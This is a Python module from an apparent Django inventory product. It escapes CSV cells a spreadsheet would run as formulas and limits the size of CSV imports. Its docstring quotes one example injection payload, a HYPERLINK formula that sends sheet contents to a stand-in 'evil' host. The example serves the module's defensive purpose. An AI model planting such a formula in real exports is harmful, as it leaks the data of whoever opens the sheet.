"""CSV that a spreadsheet opens safely, and CSV imports of a bounded size.

Formula injection (OWASP "CSV Injection"): a cell beginning with ``=``, ``+``, ``-``, ``@``,
a tab or a carriage return is run as a formula by Excel and LibreOffice, so a device named
``=HYPERLINK("http://evil/?"&A1)`` in an export becomes a live link that leaks the sheet.
Every CSV this product writes (page exports and Django admin's export) goes through
``safe_cell``, which puts a ``'`` before such text. Numbers are left alone (a float is
never a formula, and "-3.5" must stay a number for the spreadsheet).

Why here and not in ``dcim.ui``: the admin's import-export formats live with inventory, a
layer below the UI kit; this module imports nothing of the product, like ``dcim.crypto``.
"""

from __future__ import annotations

import re
from typing import Any

from django.conf import settings
from import_export.formats.base_formats import CSV

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def safe_cell(value: Any) -> Any:
    """The value, with a leading ``'`` when it is text a spreadsheet would run."""
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return value
    if PLAIN_NUMBER.fullmatch(value):
        return value
    return "'" + value


def safe_row(row: list[Any] | tuple[Any, ...]) -> list[Any]:
    return [safe_cell(v) for v in row]


class FileTooLarge(ValueError):
    """An import larger than its limit: refused before it is read."""


def human_size(size: int) -> str:
    return f"{size / 2**20:.1f} MiB" if size >= 2**20 else f"{size / 2**10:.0f} KiB"


def check_size(size: int, limit: int, what: str = "CSV file") -> None:
    if size > limit:
        raise FileTooLarge(
            f"The {what} is {human_size(size)}; at most {human_size(limit)} can be imported "
            "at once. Split it into smaller files and import them one by one."
        )


class SafeCSV(CSV):
    """django-import-export's CSV with formulas escaped on export and a size limit on
    import (``CSV_IMPORT_MAX_BYTES``: the preview of 2 MiB takes about 11 s)."""

    def create_dataset(self, in_stream, **kwargs):
        size = len(in_stream.encode() if isinstance(in_stream, str) else in_stream)
        check_size(size, getattr(settings, "CSV_IMPORT_MAX_BYTES", 2 * 2**20))
        return super().create_dataset(in_stream, **kwargs)

    def export_data(self, dataset, **kwargs):
        for i, row in enumerate(list(dataset)):
            dataset[i] = safe_row(row)
        return super().export_data(dataset, **kwargs)
